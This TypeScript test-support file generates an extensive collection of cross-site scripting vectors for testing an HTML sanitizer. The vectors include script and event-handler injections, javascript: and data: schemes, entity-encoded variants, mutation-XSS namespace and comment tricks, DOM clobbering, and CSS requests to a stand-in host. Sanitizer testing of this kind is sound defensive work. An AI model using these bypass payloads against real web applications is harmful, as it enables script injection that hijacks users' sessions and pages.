import { isLong } from '../../packages/server/test/support/is-long.ts';

/** The code that every vector tries to run; the observing page counts its calls. */
const RUN = 'ran()';
/** A host that must never be requested. */
export const FOREIGN = 'foreign.test';

const entities = (text: string, write: (code: number) => string): string =>
  [...text].map((letter) => write(letter.charCodeAt(0))).join('');
const decimal = (text: string): string => entities(text, (code) => `&#${code};`);
const padded = (text: string): string => entities(text, (code) => `&#${String(code).padStart(7, '0')}`);
const hexadecimal = (text: string): string => entities(text, (code) => `&#x${code.toString(16)};`);
const mixed = (text: string): string =>
  [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter.toLowerCase())).join('');

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=//${FOREIGN}/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script><!--${RUN}\n--></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${decimal(RUN)}</script></svg>`,
  `<svg><script href="data:,${RUN}" /></svg>`,
  `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<a"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<p title='"><script>${RUN}</script>'>`,
  `<?xml version="1.0"?><html><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></html>`,
];

const handlers = [
  ['img src=x', 'onerror'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'onload'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['p tabindex=0 autofocus', 'onfocus'],
  ['span contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['style', 'onload'],
  ['link rel=stylesheet href=data:,', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=data:,', 'onload'],
  ['image src=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['p', 'onclick'],
  ['h1', 'onmouseover'],
  ['span style="font-size: 12px"', 'onclick'],
  ['li', 'onpointerdown'],
  ['strong', 'onmouseenter'],
  ['pre', 'onclick'],
  ['blockquote', 'onmouseover'],
  ['a href=x', 'onclick'],
  ['div', 'onclick'],
  ['math', 'onclick'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><g', 'onload'],
  ['svg><image href=x', 'onerror'],
  ['svg><a', 'onclick'],
  ['math><mi', 'onclick'],
  ['dialog open', 'onclick'],
] as const;

const written: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${RUN}>a`,
  (element, event) =>
    `<${mixed(element.split(/[ />]/)[0] ?? '')}${element.slice(element.search(/[ />]|$/))} ${mixed(event)}="${RUN}">a`,
  (element, event) => `<${element}\t${event}\n=\n'${hexadecimal(RUN)}'>a`,
];

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#1;javascript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  decimal(`javascript:${RUN}`),
  padded(`javascript:${RUN}`),
  hexadecimal(`javascript:${RUN}`),
  `javascript://%0a${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
];

const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>a</button></form>`,
  (address) => `<form><button formaction="${address}">a</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  (address) => `<math href="${address}"><mi>a</mi></math>`,
  (address) => `<img src="${address}">`,
];

/** Elements whose text browsers and sanitizers have parsed differently. */
const raw = [
  'noscript',
  'style',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'title',
  'textarea',
  'template',
  'listing',
  'plaintext',
  'select',
  'option',
  'annotation-xml',
];
const picture = `<img src=x onerror=${RUN}>`;
const hidden: readonly ((element: string) => string)[] = [
  (element) => `<${element}><p title="</${element}>${picture}"></${element}>`,
  (element) => `<svg><${element}><a id="</${element}>${picture}"></svg>`,
  (element) =>
    `<math><mtext><table><mglyph><${element}><!--</${element}><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  (element) => `<${element}>&lt;img src=x onerror=${RUN}&gt;</${element}>`,
];

const mutations = [
  `<form><math><mtext></form><form><mglyph><style></math>${picture}`,
  `<math><mtext><table><mglyph><style><math>${picture}`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style>${picture}">`,
  `<svg></p><style><a id="</style>${picture}">`,
  `<svg><foreignObject><p><style><!--</style><img title="-->${picture}">`,
  `<svg><desc><style><p title="</style>${picture}">`,
  `<svg><title><style><p title="</style>${picture}">`,
  `<svg><![CDATA[><image xlink:href="]]>${picture}`,
  `<math><![CDATA[]]>${picture}`,
  `<p><svg><style><![CDATA[</style>${picture}]]>`,
  `<table><td><svg><desc><td></desc></svg>${picture}`,
  `<select><template><p title="</select>${picture}">`,
  `<div><template shadowrootmode=open>${picture}</template></div>`,
  `<template><script>${RUN}</script></template>`,
  `<a href="x"><svg><style><a title="</style>${picture}">`,
  `<x><!--</x>${picture}-->`,
  `<!-->${picture}-->`,
  `<!--!>${picture}-->`,
  `<!-- --!>${picture}-->`,
  `<!--->${picture}-->`,
  `<!--[if gte IE 4]>${picture}<![endif]-->`,
  `<!${picture}>`,
  `<?${picture}?>`,
  `</${picture}>`,
  `<%${picture}%>`,
  `<p title="a>b"${picture}`,
  `<p title='a"b' x="'>${picture}`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror=${RUN}<p>a`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror\u00a0=${RUN}>${picture}`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus=${RUN} x='`,
  `<form id=attributes><input name=nodeName>${picture}</form>`,
  `<form><input name=parentNode><input name=childNodes>${picture}</form>`,
  `<img name=body><img name=documentElement>${picture}`,
  `<a id=cleanHtml></a><a id=cleanHtml name=run href="javascript:${RUN}">a</a>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'><text y='9'>a</text></a></svg>#x"></use></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=9>a</text></a></svg>`,
  `<svg><a xlink:href=x><set attributeName=href to=javascript:${RUN} /><text y=9>a</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/x">`,
  `<base href="//${FOREIGN}/"><script src=x.js></script>`,
  `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
  `<link rel=prefetch href=//${FOREIGN}/x>`,
  `<img src=//${FOREIGN}/x.png>`,
  `<img srcset="//${FOREIGN}/x.png 1x">`,
  `<picture><source srcset=//${FOREIGN}/x.png><img></picture>`,
  `<video poster=//${FOREIGN}/x.png></video>`,
  `<audio src=//${FOREIGN}/x.mp3 autoplay></audio>`,
  `<body background=//${FOREIGN}/x.png>`,
  `<table background=//${FOREIGN}/x.png><td>a</table>`,
  `<a href=x ping=//${FOREIGN}/x>a</a>`,
  `<svg><image href=//${FOREIGN}/x.png /></svg>`,
  `<object data=//${FOREIGN}/x></object>`,
];

const styles = [
  `<style>@import '//${FOREIGN}/x.css';</style>`,
  `<style>body{background:url(//${FOREIGN}/x.png)}</style>`,
  `<style>p{animation:x 1s}@keyframes x{}</style><p onanimationstart=${RUN}>a</p>`,
  ...[
    `background:url(//${FOREIGN}/x.png)`,
    `background:url(javascript:${RUN})`,
    `width:expression(${RUN})`,
    `-moz-binding:url(//${FOREIGN}/x.xml#x)`,
    `behavior:url(//${FOREIGN}/x.htc)`,
    `font-size:12px;background:url(//${FOREIGN}/y.png)`,
    `font-family:Arial;list-style-image:url(//${FOREIGN}/x.png)`,
    `font-family:url(//${FOREIGN}/x)`,
    `font-size:12px;/**/background-image:url(//${FOREIGN}/z.png)`,
    `font-size:12px}body{background:url(//${FOREIGN}/x.png)`,
    `font-family:x&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
    `font-family:&quot;Arial&quot;;content:url(//${FOREIGN}/c.png)`,
    `b\\61 ckground:url(//${FOREIGN}/e.png)`,
    `position:fixed;inset:0;cursor:url(//${FOREIGN}/c.cur),auto`,
  ].flatMap((style) => [`<span style="${style}">a</span>`, `<p style="${style}">a</p>`]),
];

/** Combines every entry of one list with every entry of the other; in a short run, each entry once. */
function pairs<One, Other>(ones: readonly One[], others: readonly Other[], join: (one: One, other: Other) => string) {
  const fewer = Math.min(ones.length, others.length);
  const isTried = (row: number, column: number): boolean => isLong || (row - column) % fewer === 0;
  return ones.flatMap((one, row) =>
    others.filter((_, column) => isTried(row, column)).map((other) => join(one, other)),
  );
}

/**
 * Ways to run a script, or to request another host, through HTML. They come from OWASP's evasion sheets and from known
 * classes of sanitizer bypasses. These are other elements, namespaces that change parsing, comments, broken attributes,
 * schemes, encodings, styles and clobbering. The long run tries all combinations.
 */
export const vectors: readonly string[] = [
  ...new Set([
    ...scripts,
    ...pairs(handlers, written, ([element, event], write) => write(element, event)),
    ...pairs(carriers, schemes, (carry, scheme) => carry(scheme)),
    ...pairs(raw, hidden, (element, hide) => hide(element)),
    ...mutations,
    ...styles,
  ]),
];
